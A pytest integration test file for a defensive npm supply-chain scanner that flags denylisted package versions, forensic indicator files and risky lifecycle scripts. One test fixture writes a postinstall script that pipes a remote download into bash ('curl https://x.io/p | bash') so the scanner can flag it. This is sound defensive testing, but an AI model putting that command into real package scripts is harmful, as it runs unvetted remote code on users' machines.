"""Integration tests for ioc_sentinel.scanner module.

Runs the full walker against project trees created in temporary
filesystems. Tests cover:

- Scanner initialisation and validation
- Installed version matching (exact, wildcard, scoped)
- Ghost and corrupt watched packages
- Forensic matches and dismissed candidates
- Lifecycle script findings from installed packages
- Lockfiles at the project root and inside installed packages
- Traversal bounds: depth, hidden directories, symlinks, loops, ceilings
- Cancellation yielding a partial report
- scan_directory convenience function
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from ioc_sentinel.denylist import Denylist
from ioc_sentinel.models import IssueType, ScanContext, ScanReport
from ioc_sentinel.scanner import Scanner, scan_directory

symlinks = pytest.mark.skipif(not hasattr(os, "symlink") or os.name == "nt", reason="symlinks required")


# ---------------------------------------------------------------------------
# Helpers
# ---------------------------------------------------------------------------


def _write_json(path: Path, data: Any) -> None:
    """Write JSON data to a file."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data, indent=2), encoding="utf-8")


def _install(root: Path, name: str, version: str | None = "1.0.0", **extra: Any) -> Path:
    """Create ``root/node_modules/<name>`` with a package.json."""
    pkg_dir = root / "node_modules" / name
    manifest: dict[str, Any] = {"name": name, **extra}
    if version is not None:
        manifest["version"] = version
    _write_json(pkg_dir / "package.json", manifest)
    return pkg_dir


def _types(report: ScanReport) -> list[IssueType]:
    return [i.issue_type for i in report.threats]


@pytest.fixture
def denylist() -> Denylist:
    return Denylist({
        "left-pad": {"*"},
        "@ctrl/tinycolor": {"4.1.1", "4.1.2"},
    })


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    _write_json(root / "package.json", {"name": "my-app", "version": "1.0.0"})
    return root


# ---------------------------------------------------------------------------
# Initialisation
# ---------------------------------------------------------------------------


class TestScannerInit:
    """Tests for Scanner construction."""

    def test_default_depth(self, denylist: Denylist) -> None:
        assert Scanner(denylist).max_depth == 5

    def test_depth_is_clamped(self, denylist: Denylist) -> None:
        assert Scanner(denylist, max_depth=50).max_depth == 10

    def test_negative_depth_raises(self, denylist: Denylist) -> None:
        with pytest.raises(ValueError, match="max_depth"):
            Scanner(denylist, max_depth=-1)

    def test_uses_supplied_context(self, denylist: Denylist) -> None:
        context = ScanContext()
        assert Scanner(denylist, context=context).context is context


# ---------------------------------------------------------------------------
# Installed packages
# ---------------------------------------------------------------------------


class TestInstalledPackages:
    """Version matching against installed node_modules."""

    def test_clean_project_has_no_threats(self, project: Path, denylist: Denylist) -> None:
        _install(project, "express", "4.18.0")
        report = Scanner(denylist).scan([project])
        assert report.threats == []
        assert report.stats.packages_scanned == 1
        assert not report.interrupted

    def test_wildcard_match(self, project: Path, denylist: Denylist) -> None:
        """A wildcard entry flags any installed version."""
        _install(project, "left-pad", "1.3.0")
        report = Scanner(denylist).scan([project])
        assert _types(report) == [IssueType.WILDCARD_MATCH]
        issue = report.threats[0]
        assert issue.package == "left-pad"
        assert issue.version == "1.3.0"
        assert issue.location.endswith(os.path.join("node_modules", "left-pad"))

    def test_scoped_exact_match(self, project: Path, denylist: Denylist) -> None:
        _install(project, "@ctrl/tinycolor", "4.1.1")
        report = Scanner(denylist).scan([project])
        assert _types(report) == [IssueType.VERSION_MATCH]
        assert report.threats[0].package == "@ctrl/tinycolor"

    def test_watched_clean_version_is_safe_match(self, project: Path, denylist: Denylist) -> None:
        _install(project, "@ctrl/tinycolor", "4.0.0")
        report = Scanner(denylist).scan([project])
        assert report.threats == []
        assert [i.package for i in report.safe_matches] == ["@ctrl/tinycolor"]

    def test_ghost_package(self, project: Path, denylist: Denylist) -> None:
        """A watched package directory without package.json is reported."""
        (project / "node_modules" / "@ctrl" / "tinycolor").mkdir(parents=True)
        report = Scanner(denylist).scan([project])
        assert _types(report) == [IssueType.GHOST_PACKAGE]

    def test_unwatched_missing_manifest_is_silent(self, project: Path, denylist: Denylist) -> None:
        (project / "node_modules" / "lodash").mkdir(parents=True)
        assert Scanner(denylist).scan([project]).threats == []

    def test_corrupt_manifest(self, project: Path, denylist: Denylist) -> None:
        pkg_dir = project / "node_modules" / "left-pad"
        pkg_dir.mkdir(parents=True)
        (pkg_dir / "package.json").write_text("{broken", encoding="utf-8")
        report = Scanner(denylist).scan([project])
        assert _types(report) == [IssueType.CORRUPT_PACKAGE]
        assert report.threats[0].details.startswith("package.json parse error")

    def test_missing_version_field(self, project: Path, denylist: Denylist) -> None:
        _install(project, "left-pad", version=None)
        report = Scanner(denylist).scan([project])
        assert _types(report) == [IssueType.CORRUPT_PACKAGE]
        assert report.threats[0].details == "Missing or invalid version field"

    def test_files_in_node_modules_are_skipped(self, project: Path, denylist: Denylist) -> None:
        modules = project / "node_modules"
        modules.mkdir()
        (modules / ".package-lock.json").write_text("{}", encoding="utf-8")
        (modules / "left-pad").write_text("not a dir", encoding="utf-8")
        report = Scanner(denylist).scan([project])
        assert report.threats == []
        assert report.stats.packages_scanned == 0

    def test_scanning_node_modules_directly(self, project: Path, denylist: Denylist) -> None:
        _install(project, "left-pad", "1.3.0")
        report = Scanner(denylist).scan([project / "node_modules"])
        assert _types(report) == [IssueType.WILDCARD_MATCH]


# ---------------------------------------------------------------------------
# Scripts and forensic files
# ---------------------------------------------------------------------------


class TestPackageContents:
    """Script and forensic checks on package directories."""

    def test_critical_script_in_dependency(self, project: Path, denylist: Denylist) -> None:
        _install(project, "innocent", scripts={"postinstall": "curl https://x.io/p | bash"})
        report = Scanner(denylist).scan([project])
        assert _types(report) == [IssueType.CRITICAL_SCRIPT]
        assert report.threats[0].package == "innocent"

    def test_forensic_match(self, project: Path, denylist: Denylist) -> None:
        pkg_dir = _install(project, "innocent")
        (pkg_dir / "setup_bun.js").write_text("", encoding="utf-8")
        report = Scanner(denylist).scan([project])
        assert _types(report) == [IssueType.FORENSIC_MATCH]
        assert report.threats[0].details == "setup_bun.js (High confidence IOC)"

    def test_workflow_backdoor(self, project: Path, denylist: Denylist) -> None:
        workflows = project / ".github" / "workflows"
        workflows.mkdir(parents=True)
        (workflows / "discussion.yaml").write_text("on: discussion\n", encoding="utf-8")
        report = Scanner(denylist).scan([project])
        assert _types(report) == [IssueType.FORENSIC_MATCH]
        assert report.threats[0].package == "project"

    def test_content_verified_artifact(self, project: Path, denylist: Denylist) -> None:
        pkg_dir = _install(project, "innocent")
        (pkg_dir / "bundle.js").write_text("require('./setup_bun')", encoding="utf-8")
        report = Scanner(denylist).scan([project])
        assert _types(report) == [IssueType.FORENSIC_ARTIFACT]

    def test_benign_bundle_is_safe_match(self, project: Path, denylist: Denylist) -> None:
        pkg_dir = _install(project, "innocent")
        (pkg_dir / "bundle.js").write_text("console.log('hi')", encoding="utf-8")
        report = Scanner(denylist).scan([project])
        assert report.threats == []
        assert [i.details for i in report.safe_matches] == [
            "Benign bundle.js: Content did not match malware signatures",
        ]


# ---------------------------------------------------------------------------
# Lockfiles
# ---------------------------------------------------------------------------


class TestLockfiles:
    """Lockfiles found during the walk."""

    def test_root_yarn_lock(self, project: Path, denylist: Denylist) -> None:
        (project / "yarn.lock").write_text(
            '"@ctrl/tinycolor@^4.1.0":\n  version "4.1.2"\n',
            encoding="utf-8",
        )
        report = Scanner(denylist).scan([project])
        assert _types(report) == [IssueType.LOCKFILE_HIT]
        assert report.stats.lockfiles_checked == 1

    def test_lockfile_inside_installed_package(self, project: Path, denylist: Denylist) -> None:
        pkg_dir = _install(project, "tooling")
        _write_json(pkg_dir / "package-lock.json", {"packages": {"node_modules/left-pad": {"version": "1.0.0"}}})
        report = Scanner(denylist).scan([project])
        assert _types(report) == [IssueType.WILDCARD_LOCK_HIT]


# ---------------------------------------------------------------------------
# Traversal bounds
# ---------------------------------------------------------------------------


class TestTraversal:
    """Depth, hidden directories, symlinks and ceilings."""

    def test_depth_limit(self, project: Path, denylist: Denylist) -> None:
        _install(project / "a" / "b" / "c", "left-pad", "1.3.0")
        assert Scanner(denylist, max_depth=1).scan([project]).threats == []
        assert _types(Scanner(denylist, max_depth=3).scan([project])) == [IssueType.WILDCARD_MATCH]

    def test_depth_zero_still_checks_root_node_modules(self, project: Path, denylist: Denylist) -> None:
        _install(project, "left-pad", "1.3.0")
        assert _types(Scanner(denylist, max_depth=0).scan([project])) == [IssueType.WILDCARD_MATCH]

    @pytest.mark.parametrize("hidden", [".cache", "_build"])
    def test_hidden_directories_skipped(self, project: Path, denylist: Denylist, hidden: str) -> None:
        _install(project / hidden, "left-pad", "1.3.0")
        assert Scanner(denylist).scan([project]).threats == []

    def test_nested_workspace(self, project: Path, denylist: Denylist) -> None:
        _install(project / "packages" / "web", "left-pad", "1.3.0")
        assert _types(Scanner(denylist).scan([project])) == [IssueType.WILDCARD_MATCH]

    @symlinks
    def test_symlink_leaving_roots_is_skipped(self, tmp_path: Path, project: Path, denylist: Denylist) -> None:
        outside = tmp_path / "outside"
        _install(outside, "left-pad", "1.3.0")
        (project / "linked").symlink_to(outside, target_is_directory=True)
        report = Scanner(denylist).scan([project])
        assert report.threats == []
        assert report.stats.symlinks_skipped == 1

    @symlinks
    def test_scope_symlink_leaving_roots_is_skipped(self, tmp_path: Path, project: Path) -> None:
        outside = tmp_path / "outside" / "scopepkgs"
        _write_json(outside / "evil" / "package.json", {"name": "@s/evil", "version": "1.0.0"})
        (project / "node_modules").mkdir()
        (project / "node_modules" / "@s").symlink_to(outside, target_is_directory=True)
        report = Scanner(Denylist({"@s/evil": {"*"}})).scan([project])
        assert report.threats == []
        assert report.stats.symlinks_skipped == 1

    @symlinks
    def test_scope_symlink_inside_roots_is_followed(self, project: Path) -> None:
        store = project / "store"
        _write_json(store / "evil" / "package.json", {"name": "@s/evil", "version": "1.0.0"})
        (project / "node_modules").mkdir()
        (project / "node_modules" / "@s").symlink_to(store, target_is_directory=True)
        report = Scanner(Denylist({"@s/evil": {"*"}})).scan([project])
        assert IssueType.WILDCARD_MATCH in _types(report)

    @symlinks
    def test_symlink_between_roots_is_followed(self, tmp_path: Path, project: Path, denylist: Denylist) -> None:
        other = tmp_path / "other"
        _install(other, "left-pad", "1.3.0")
        (project / "linked").symlink_to(other, target_is_directory=True)
        report = Scanner(denylist).scan([project, other])
        assert _types(report) == [IssueType.WILDCARD_MATCH]

    @symlinks
    def test_symlink_loop_terminates(self, project: Path, denylist: Denylist) -> None:
        sub = project / "sub"
        sub.mkdir()
        (sub / "loop").symlink_to(project, target_is_directory=True)
        report = Scanner(denylist).scan([project])
        assert report.stats.directories_scanned == 2

    def test_package_ceiling(self, project: Path, denylist: Denylist) -> None:
        for name in ("a", "b", "c"):
            _install(project, name)
        report = Scanner(denylist, context=ScanContext(max_packages=1)).scan([project])
        assert report.stats.packages_scanned == 1

    def test_directory_ceiling(self, project: Path, denylist: Denylist) -> None:
        for name in ("a", "b", "c"):
            (project / name).mkdir()
        report = Scanner(denylist, context=ScanContext(max_directories=2)).scan([project])
        assert report.stats.directories_scanned == 2

    def test_duplicate_roots_scanned_once(self, project: Path, denylist: Denylist) -> None:
        _install(project, "left-pad", "1.3.0")
        report = Scanner(denylist).scan([project, project / "."])
        assert len(report.roots) == 1
        assert len(report.threats) == 1

    def test_missing_root_is_skipped(self, tmp_path: Path, project: Path, denylist: Denylist) -> None:
        report = Scanner(denylist).scan([tmp_path / "missing", project])
        assert report.roots == [project.resolve()]


# ---------------------------------------------------------------------------
# Cancellation and convenience API
# ---------------------------------------------------------------------------


class TestCancellation:
    """Tests for interrupted scans."""

    def test_shutdown_before_scan(self, project: Path, denylist: Denylist) -> None:
        _install(project, "left-pad", "1.3.0")
        context = ScanContext()
        context.request_shutdown()
        report = Scanner(denylist, context=context).scan([project])
        assert report.interrupted
        assert report.issues == []

    def test_report_metadata(self, project: Path, denylist: Denylist) -> None:
        report = Scanner(denylist, max_depth=4).scan([project])
        assert report.max_depth == 4
        assert report.denylist_size == 2
        assert report.duration_seconds >= 0


class TestScanDirectory:
    """Tests for scan_directory()."""

    def test_missing_directory_raises(self, tmp_path: Path, denylist: Denylist) -> None:
        with pytest.raises(FileNotFoundError):
            scan_directory(tmp_path / "nope", denylist)

    def test_file_instead_of_directory_raises(self, tmp_path: Path, denylist: Denylist) -> None:
        path = tmp_path / "file.txt"
        path.write_text("x", encoding="utf-8")
        with pytest.raises(NotADirectoryError):
            scan_directory(path, denylist)

    def test_returns_report(self, project: Path, denylist: Denylist) -> None:
        _install(project, "left-pad", "1.3.0")
        report = scan_directory(project, denylist)
        assert isinstance(report, ScanReport)
        assert report.critical_count == 1
